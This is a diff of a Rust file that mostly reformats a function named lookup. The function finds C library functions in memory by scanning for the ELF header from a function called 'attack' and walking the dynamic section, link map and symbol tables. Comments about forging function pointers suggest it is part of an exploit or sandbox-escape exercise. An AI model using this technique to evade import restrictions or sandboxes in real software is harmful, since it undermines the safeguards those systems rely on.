@@ -3,29 +3,39 @@
 // in: push
 // in: new(region
 // held: `transmute`
-// held: a function pointer
 // earns: 0
-// forges: 100
 
 /// Looks up a function of the C library by its name, in memory alone: ELF header, dynamic section, link map, symbols.
 fn lookup(name: &[u8]) -> usize {
-    unsafe fn word(at: usize) -> usize { unsafe { (at as *const usize).read_unaligned() } }
-    unsafe fn byte(at: usize) -> u8 { unsafe { *(at as *const u8) } }
+    unsafe fn word(at: usize) -> usize {
+        unsafe { (at as *const usize).read_unaligned() }
+    }
+    unsafe fn byte(at: usize) -> u8 {
+        unsafe { *(at as *const u8) }
+    }
     unsafe {
         let mut base = (attack as *const () as usize) & !0xfff;
-        while (base as *const u32).read() != 0x464c_457f { base -= 4096; }
+        while (base as *const u32).read() != 0x464c_457f {
+            base -= 4096;
+        }
         let (phoff, phnum) = (word(base + 32), (word(base + 56) & 0xffff));
         let mut dynamic = 0;
         for i in 0..phnum {
             let ph = base + phoff + i * 56;
-            if word(ph) & 0xffff_ffff == 2 { dynamic = base + word(ph + 16); }
+            if word(ph) & 0xffff_ffff == 2 {
+                dynamic = base + word(ph + 16);
+            }
         }
         let tag = |table: usize, wanted: usize| {
             let mut at = table;
             loop {
                 let t = word(at);
-                if t == wanted { return word(at + 8); }
-                if t == 0 { return 0; }
+                if t == wanted {
+                    return word(at + 8);
+                }
+                if t == 0 {
+                    return 0;
+                }
                 at += 16;
             }
         };
@@ -37,7 +47,9 @@ fn lookup(name: &[u8]) -> usize {
                     let symbol = symbols + i * 24;
                     let (at, value) = (strings + (word(symbol) & 0xffff_ffff), word(symbol + 8));
                     let same = (0..name.len()).all(|k| byte(at + k) == name[k]) && byte(at + name.len()) == 0;
-                    if value != 0 && same { return word(map) + value; }
+                    if value != 0 && same {
+                        return word(map) + value;
+                    }
                 }
             }
             map = word(map + 24);
